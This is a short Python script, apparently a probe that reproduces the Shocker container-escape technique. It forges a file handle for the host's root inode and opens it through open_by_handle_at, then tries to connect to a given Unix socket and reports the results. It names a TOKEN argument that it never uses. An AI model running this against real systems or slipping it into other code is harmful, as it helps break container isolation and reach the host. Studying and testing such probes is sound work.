# Opens a path by its file handle, as shocker did, past the layer that covers it:
# handles.py PATH TOKEN.
import ctypes, os, socket, sys

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(136)
handle[0:4] = (128).to_bytes(4, sys.byteorder)
mount = ctypes.c_int()
root = os.open("/", os.O_RDONLY)
said = "opened"
if libc.name_to_handle_at(-100, os.path.dirname(sys.argv[1]).encode(), handle, ctypes.byref(mount), 0) != 0:
    handle[0:4] = (8).to_bytes(4, sys.byteorder)
    handle[4:8] = (1).to_bytes(4, sys.byteorder)
    handle[8:16] = (2).to_bytes(8, sys.byteorder)  # the root of most file systems
if libc.open_by_handle_at(root, handle, os.O_RDONLY) < 0:
    said = os.strerror(ctypes.get_errno())
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(sys.argv[1])
    print(said, "connected", sep="; ")
except OSError as e:
    print(said, os.strerror(e.errno), sep="; ")
